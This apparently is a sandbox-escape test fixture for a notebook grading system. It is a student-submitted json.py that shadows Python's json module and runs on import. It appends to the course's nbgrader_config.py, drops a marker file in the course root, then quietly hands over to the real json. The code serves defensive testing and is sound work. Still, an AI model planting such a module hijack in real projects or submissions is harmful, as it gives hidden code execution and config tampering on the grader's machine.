"""Hand in a json.py next to the notebook: any Python process started in the working folder
that imports json runs it (the kernel does, in the sandbox; anything outside it must not).
It appends to the course's config and drops a file in the course root, then hands over to
the real json."""

# %% file json.py
import importlib
import os
import sys

COURSE = "__COURSE__"
MARKER = "__MARKER__"
where = "sandbox" if os.environ.get("NNCOURSE_SANDBOX") else "outside the sandbox"
try:
    with open(os.path.join(COURSE, "nbgrader_config.py"), "a") as config:
        config.write(f"\n# {MARKER}: a submission's json.py ran {where}\n")
    with open(os.path.join(COURSE, f"escaped-{MARKER}"), "w") as note:
        note.write(where)
except OSError:
    pass
os.environ["NNATTACK_JSON"] = f"and ran {where}"
here = os.getcwd()
del sys.modules["json"]
sys.path[:] = [p for p in sys.path if p not in ("", ".", here)]
sys.modules["json"] = importlib.import_module("json")


# %% after add_bias_column
import os  # noqa: E402 (a cell of the notebook, not of json.py)

print("json.py handed in:", os.path.exists("json.py"), os.environ.get("NNATTACK_JSON"))
